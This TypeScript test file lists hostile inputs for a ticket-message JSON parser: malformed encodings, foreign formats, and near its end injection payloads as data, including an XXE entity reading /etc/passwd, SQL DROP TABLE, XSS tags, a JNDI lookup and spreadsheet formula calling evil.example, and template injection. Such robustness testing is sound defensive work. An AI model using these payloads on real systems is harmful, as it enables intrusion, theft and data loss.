import { isDead, isTicket, ticketJson, withField, withMembers, type HostileCase } from './hostile-case.ts';

const utf8 = Buffer.from(ticketJson);
const swapped = (text: string): Buffer => Buffer.from(text, 'utf16le').swap16();
/** Each character as the four bytes of its code point. */
const utf32 = (text: string): Buffer =>
  Buffer.from(Uint32Array.from(text, (c) => c.codePointAt(0) ?? 0).buffer);

/** The ticket's JSON with the request `X` replaced by these bytes. */
function withRequestBytes(...bytes: readonly number[]): Uint8Array {
  const [before = '', after = ''] = withField('request', '"X"').split('X');
  return Buffer.concat([Buffer.from(before), Uint8Array.from(bytes), Buffer.from(after)]);
}

/** Bytes that are no UTF-8, and UTF-8 that is no plain text. */
export const encodingCases: readonly HostileCase[] = [
  isDead('a tombstone', null),
  isDead('no byte at all', ''),
  isDead('one NUL', '\0'),
  isDead('a thousand NULs', '\0'.repeat(1_000)),
  isDead(
    'every byte once',
    Uint8Array.from({ length: 256 }, (_, byte) => byte),
  ),
  isTicket('a byte order mark before a ticket', `\ufeff${ticketJson}`),
  isDead('UTF-16, little endian', Buffer.from(ticketJson, 'utf16le')),
  isDead('UTF-16 with its mark', Buffer.from(`\ufeff${ticketJson}`, 'utf16le')),
  isDead('UTF-16, big endian', swapped(ticketJson)),
  isDead('UTF-32', utf32(ticketJson)),
  isDead('Latin-1', Buffer.from(ticketJson, 'latin1')),
  isDead('an overlong slash', withRequestBytes(0xc0, 0xaf)),
  isDead('an overlong NUL, as Java writes it', withRequestBytes(0xc0, 0x80)),
  isDead('a surrogate pair in CESU-8', withRequestBytes(0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80)),
  isDead('a lone surrogate in bytes', withRequestBytes(0xed, 0xa0, 0x80)),
  isDead('a code point past Unicode', withRequestBytes(0xf4, 0x90, 0x80, 0x80)),
  isDead('a continuation byte alone', withRequestBytes(0x80)),
  isDead('half a character', withRequestBytes(0xc3)),
  isDead('UTF-8 that ends within a character', utf8.subarray(0, utf8.indexOf(0xc3) + 1)),
  isDead('a NUL within a string', withRequestBytes(0)),
  isDead('a NUL after the document', `${ticketJson}\0`),
  isDead('a raw line feed within a string', withRequestBytes(0x0a)),
  isDead('a terminal escape within a string', withRequestBytes(0x1b, 0x5b, 0x32, 0x4a)),
  isTicket('a NUL that is escaped', withField('request', String.raw`"a\u0000b"`)),
  isTicket(
    'a terminal escape that is escaped',
    withField('request', String.raw`"\u001b[2J\u001b]0;x\u0007"`),
  ),
  isTicket('line and paragraph separators', withField('request', '"a\u2028b\u2029c"')),
  isTicket('escaped line ends', withField('request', String.raw`"a\r\nb\nc"`)),
  isTicket('text that runs backwards', withField('request', '"\u202egnihton\u202c \u2066x\u2069"')),
  isTicket('nothing that can be seen', withField('request', '"\u200b\u200d\ufeff"')),
  isTicket('one letter under a thousand accents', withField('request', `"e${'\u0301'.repeat(1_000)}"`)),
  isTicket('noncharacters', withField('request', '"\uffff\u{10ffff}\ufdd0"')),
  isTicket('a pair of escaped surrogates', withField('request', String.raw`"\ud83c\udfab"`)),
  isDead('half a pair', withField('request', String.raw`"\ud83c"`)),
  isDead('a pair the wrong way round', withField('request', String.raw`"\udfab\ud83c"`)),
  isTicket('half a pair in a field that is not read', withMembers(String.raw`"x":"\ud800"`)),
  isTicket('half a pair as the name of a field', withMembers(String.raw`"\udfff":1`)),
];

/** What people and programs send to a topic by mistake, or to try it. */
export const foreignFormatCases: readonly HostileCase[] = [
  isDead('null', 'null'),
  isDead('a number', '42'),
  isDead('a string', '"TCK-00001"'),
  isDead('a list of a ticket', `[${ticketJson}]`),
  isDead('a ticket in a string', JSON.stringify(ticketJson)),
  isDead('an empty object', '{}'),
  isDead('two documents', ticketJson + ticketJson),
  isDead('JSON lines', `${ticketJson}\n${ticketJson}\n`),
  isDead('a comma too many', ticketJson.replace('}', ',}')),
  isDead('a comment', ticketJson.replace('{', '{/* x */')),
  isDead('single quotes', ticketJson.replaceAll('"', "'")),
  isDead('names without quotes', ticketJson.replaceAll(/"(\w+)":/g, '$1:')),
  isDead('NaN', withMembers('"x":NaN')),
  isDead('Infinity', withMembers('"x":-Infinity')),
  isDead('a number that begins with 0', withMembers('"x":007')),
  isDead('a hexadecimal number', withMembers('"x":0x10')),
  isDead('an unknown escape', withField('request', String.raw`"\x41"`)),
  isDead('JSONP', `callback(${ticketJson})`),
  isDead('a guard against JSON hijacking', `)]}',\n${ticketJson}`),
  isDead('a no-break space before the document', `\u00a0${ticketJson}`),
  isDead('a form feed before the document', `\f${ticketJson}`),
  isTicket(
    'blanks around everything',
    ` \t\r\n${ticketJson.replaceAll(',"', ' ,\n "').replaceAll('":', '" :\t')} \n`,
  ),
  isDead('YAML', 'ticket_id: TCK-00001\ntype: TECHNICAL\n'),
  isDead('XML with an entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><ticket>&e;</ticket>'),
  isDead('CSV', 'TCK-00001,CL-417,2026-11-22T09:30:00.000Z,x,TECHNICAL,LOW\n'),
  isDead('the wire format of a schema registry', Buffer.concat([Buffer.of(0, 0, 0, 0, 7), utf8])),
  isDead('gzip', Buffer.from('H4sIAAAAAAAAA6uuBQBDv6ajAgAAAA==', 'base64')),
  isDead('the first bytes of Parquet', 'PAR1\u0015\u0004'),
  isDead('the rest of an HTTP request', 'GET / HTTP/1.1\r\nHost: x\r\n\r\n'),
  isTicket('SQL', withField('request', `"'; DROP TABLE tickets; --"`)),
  isTicket('a spreadsheet formula', withField('request', `"=HYPERLINK(\\"http://evil.example\\",\\"x\\")"`)),
  isTicket('a script', withField('request', '"<script>alert(1)</script><img src=x onerror=alert(1)>"')),
  isTicket('a log lookup', withField('request', '"${jndi:ldap://evil.example/x}"')),
  isTicket('a template', withField('request', '"{{constructor.constructor(\'return process\')()}}"')),
  isTicket('a format string', withField('request', '"%s%n%d%j%o"')),
];
